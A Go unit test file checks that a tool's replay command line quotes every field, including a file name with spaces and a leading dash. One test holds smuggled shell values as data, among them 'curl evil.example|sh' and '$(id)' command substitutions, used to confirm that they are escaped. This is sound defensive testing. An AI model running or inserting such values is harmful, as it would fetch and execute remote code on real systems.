package reports

import (
	"strings"
	"testing"
)

func TestAgain(t *testing.T) {
	want := "rehearse run --runtime docker --store vault --gates observe --speed 60 --seed 7 jwt-signing-key/short-lead"
	m := baseModel()
	if got := again(m)[0].Line; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	m.ScenarioFile = "our scenarios/short.yaml"
	if got := again(m)[0].Line; !strings.HasSuffix(got, " --seed 7 'our scenarios/short.yaml'") {
		t.Errorf("of a file: got %q, want its path", got)
	}
}

// Nothing on the line is anything to a shell but what it was in the run.
func TestAgainQuotesAll(t *testing.T) {
	m := baseModel()
	m.Runtime, m.Store, m.Limits.Gates = "process; curl evil.example|sh", "$(id) 1.21", "`id`"
	m.ScenarioFile = "-it's\n.yaml"
	want := `rehearse run --runtime 'process; curl evil.example|sh' --store '$(id)' --gates ` + "'`id`'" + ` --speed 60 --seed 7 -- '-it'\''s .yaml'`
	if got := again(m)[0].Line; got != want {
		t.Errorf("got %s, want %s", got, want)
	}
}
